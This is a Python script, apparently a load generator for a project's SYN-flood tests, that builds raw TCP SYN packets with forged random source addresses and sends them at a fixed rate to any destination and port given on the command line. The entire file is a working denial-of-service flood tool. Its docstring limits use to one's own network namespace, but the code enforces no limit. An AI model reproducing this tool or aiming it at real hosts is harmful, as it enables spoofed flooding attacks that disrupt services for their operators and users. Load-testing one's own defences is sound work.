#!/usr/bin/python3
"""Spoofed SYNs at a steady rate: each from a random unicast source address and
port, with a random sequence number and no options, to DST:PORT, for SECONDS.
A raw socket (root); sent in batches every 5 ms, each batch catching up with
the schedule, so that the rate holds where hping3's per-packet sleep falls
behind on a busy machine. Prints the number sent and the rate reached.
Only for a namespace of one's own (tests/attack/syn-flood-throughput.sh).

    spoofed_syns.py DST PORT RATE SECONDS
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def source(dst):
    while True:
        a = random.randrange(0x01000000, 0xE0000000)  # unicast, below 224.0.0.0
        if a >> 24 != 127 and a >> 8 != dst >> 8:
            return a


def syn(dst, port):
    src = source(dst)
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0,
                      5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!IIBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills the IP checksum (and the ID, left 0) of an IP_HDRINCL packet.
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def main():
    dst_s, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    dst = struct.unpack("!I", socket.inet_aton(dst_s))[0]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            break
        due = int(rate * now) - sent
        for _ in range(max(due, 0)):
            try:
                s.sendto(syn(dst, port), (dst_s, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(0.005)
    elapsed = time.monotonic() - start
    print(f"{sent} SYNs in {elapsed:.1f} s: {sent / elapsed:.0f}/s", flush=True)


if __name__ == "__main__":
    main()
